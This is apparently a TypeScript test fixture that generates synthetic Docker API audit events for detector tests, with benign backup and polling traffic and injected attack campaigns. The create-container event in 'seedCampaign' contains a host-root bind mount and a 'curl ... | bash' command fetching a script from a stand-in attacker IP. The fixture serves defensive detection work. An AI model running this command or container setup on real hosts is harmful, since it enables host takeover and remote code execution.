/**
 * Audit events for detector tests, built the way the collectors build them
 * (CapturedCall → buildAuditEvent), and a seeded stream generator with attack
 * sequences mixed into benign traffic.
 */
import type { CapturedCall } from '../../pipelines/collectors/captured-call';
import { buildAuditEvent } from '../../pipelines/collectors/event-builder';
import { createRedactor } from '../../pipelines/collectors/normalize/redact';
import type { DockerApiEvent } from '../../schemas/generated/docker-api-event';
import { mulberry32 } from '../traffic/prng';

const redactor = createRedactor(Buffer.alloc(32, 7));

export interface CallSpec {
  id: string;
  time: number;
  ip: string;
  method: string;
  uri: string;
  body?: unknown;
  status?: number;
  responseBody?: unknown;
  host?: string;
  userAgent?: string;
}

export function auditEvent(s: CallSpec): DockerApiEvent {
  const body = s.body === undefined ? null : Buffer.from(JSON.stringify(s.body));
  const call: CapturedCall = {
    eventId: s.id,
    receivedAt: s.time,
    collectorId: 'test-collector',
    mode: 'proxy',
    hostName: s.host ?? 'docker-01',
    client: { ip: s.ip, port: 40000, tlsSubject: null, tlsIssuer: null, tlsFingerprintSha256: null, user: null },
    request: {
      method: s.method,
      uri: s.uri,
      headers: {
        'user-agent': s.userAgent ?? 'Docker-Client/20.10.24 (linux)',
        ...(body ? { 'content-type': 'application/json' } : {}),
      },
      body,
      bodyBytes: body?.length ?? 0,
      bodyComplete: true,
    },
    response: {
      statusCode: s.status ?? 200,
      headers: { 'content-type': 'application/json' },
      body: s.responseBody === undefined ? null : Buffer.from(JSON.stringify(s.responseBody)),
    },
    decision: { allowed: true, rule: null, reason: null },
  };
  return buildAuditEvent(call, { redactor });
}

/** The seed's campaign by one client: pull alpine, create with the host root and curl | bash, start. */
export function seedCampaign(ip: string, start: number, idPrefix: string, host = 'docker-01'): DockerApiEvent[] {
  const ctr = (idPrefix.replace(/[^0-9a-f]/g, '') + 'c0ffee'.repeat(11)).slice(0, 64);
  return [
    auditEvent({
      id: `${idPrefix}-pull`,
      time: start,
      ip,
      host,
      method: 'POST',
      uri: '/v1.41/images/create?fromImage=alpine&tag=latest',
    }),
    auditEvent({
      id: `${idPrefix}-create`,
      time: start + 2_000,
      ip,
      host,
      method: 'POST',
      uri: '/v1.41/containers/create',
      body: {
        Image: 'alpine',
        Cmd: ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://198.51.100.23/m.sh | bash'],
        HostConfig: { Binds: ['/:/mnt'] },
      },
      status: 201,
      responseBody: { Id: ctr, Warnings: [] },
    }),
    auditEvent({
      id: `${idPrefix}-start`,
      time: start + 3_000,
      ip,
      host,
      method: 'POST',
      uri: `/v1.41/containers/${ctr}/start`,
      status: 204,
    }),
  ];
}

/** An ordinary container create by a known client (a backup job). */
export function benignCreate(ip: string, time: number, id: string, host = 'docker-01'): DockerApiEvent {
  return auditEvent({
    id,
    time,
    ip,
    host,
    method: 'POST',
    uri: '/v1.41/containers/create',
    body: { Image: 'restic/restic:0.16', Cmd: ['backup', '/data'], HostConfig: { Binds: ['/srv/data:/data:ro'] } },
    status: 201,
    responseBody: { Id: 'b'.repeat(64), Warnings: [] },
  });
}

/**
 * `n` events over `hosts` Docker hosts: a learning day of benign creates per host,
 * then benign polling and creates with a seed campaign from a new address every
 * `attackEvery` events. Event times increase by 500 ms per event.
 */
export function generateStream(n: number, seed = 1, hosts = 8, attackEvery = 500): DockerApiEvent[] {
  const rand = mulberry32(seed);
  const out: DockerApiEvent[] = [];
  let t = Date.parse('2026-11-20T00:00:00Z');
  // hour by hour across hosts, so event time only moves forward within a partition
  for (let i = 0; i < 26; i++)
    for (let h = 0; h < hosts && out.length < n; h++)
      out.push(benignCreate(`10.0.${h}.12`, t + i * 3_600_000 + h, `learn-${h}-${i}`, `docker-${h}`));
  t += 27 * 3_600_000;
  let attacks = 0;
  while (out.length < n) {
    t += 500;
    const host = Math.floor(rand() * hosts);
    if (out.length % attackEvery === 0 && out.length + 3 <= n) {
      attacks++;
      out.push(...seedCampaign(`203.0.${attacks % 250}.${(attacks >> 8) + 1}`, t, `atk-${attacks}`, `docker-${host}`));
      t += 3_000;
      continue;
    }
    const id = `ev-${seed}-${out.length}`;
    if (rand() < 0.1) out.push(benignCreate(`10.0.${host}.12`, t, id, `docker-${host}`));
    else
      out.push(
        auditEvent({
          id,
          time: t,
          ip: `10.0.${host}.20`,
          host: `docker-${host}`,
          method: 'GET',
          uri: '/v1.41/containers/json',
          userAgent: 'Go-http-client/1.1',
        }),
      );
  }
  return out;
}
